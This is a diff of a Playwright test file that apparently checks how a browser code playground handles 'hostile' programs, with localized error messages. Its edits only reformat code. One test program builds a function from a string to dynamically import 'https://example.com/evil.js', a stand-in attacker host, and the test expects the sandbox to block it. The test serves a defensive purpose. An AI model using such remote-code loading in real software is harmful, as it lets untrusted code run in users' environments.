@@ -79,7 +79,9 @@ const hostile: Hostile[] = [
     async expect(page, locale) {
       const entry = parts(page).root.locator('.pg-error[data-phase="unhandled-rejection"]');
       await expect(entry).toContainText('Error: nobody waits for me');
-      await expect(entry.locator('.pg-level')).toHaveText(locale === 'en' ? 'Unhandled promise rejection' : 'Rejeição de promise não tratada');
+      await expect(entry.locator('.pg-level')).toHaveText(
+        locale === 'en' ? 'Unhandled promise rejection' : 'Rejeição de promise não tratada',
+      );
       await expect(entry.locator('.pg-goto')).toHaveText(locale === 'en' ? 'line 2' : 'linha 2');
     },
   },
@@ -154,7 +156,7 @@ const hostile: Hostile[] = [
   },
   {
     name: 'a dynamic import of another host from code built at run time',
-    program: "const load = new Function('return import(\"https://example.com/evil.js\")');\nawait load();",
+    program: 'const load = new Function(\'return import("https://example.com/evil.js")\');\nawait load();',
     status: 'failed',
     async expect(page) {
       await expect(errorEntry(page)).toContainText('EvalError: dynamic import() in code built from a string is not available');
